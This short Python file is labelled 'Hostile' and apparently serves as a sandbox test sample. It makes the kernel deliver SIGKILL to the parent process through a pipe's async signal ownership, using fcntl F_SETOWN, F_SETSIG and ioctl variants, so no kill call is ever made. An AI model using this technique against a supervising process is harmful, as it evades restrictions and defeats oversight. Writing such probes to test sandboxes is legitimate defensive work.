"""Hostile: has the kernel kill its parent when there is data in a pipe, without a call of kill."""

import fcntl
import os
import struct

SIGKILL, OWN_BY_KIND, OWN_BY_IOCTL = 9, 15, 0x8901


def order_signals(file, process, way):
    """Let the kernel send SIGKILL to a process when the file can be read."""
    if way == 0:
        fcntl.fcntl(file, fcntl.F_SETOWN, process)
    elif way == 1:
        fcntl.fcntl(file, OWN_BY_KIND, struct.pack("ii", 1, process))
    else:
        fcntl.ioctl(file, OWN_BY_IOCTL, struct.pack("i", process))
    fcntl.fcntl(file, fcntl.F_SETSIG, SIGKILL)
    fcntl.fcntl(file, fcntl.F_SETFL, os.O_ASYNC)


def print_succ(state):
    for way in range(3):
        end, start = os.pipe()
        try:
            order_signals(end, os.getppid(), way)
            print("done: has the kernel signal its parent", flush=True)
            os.write(start, b"x")
        except OSError:
            pass
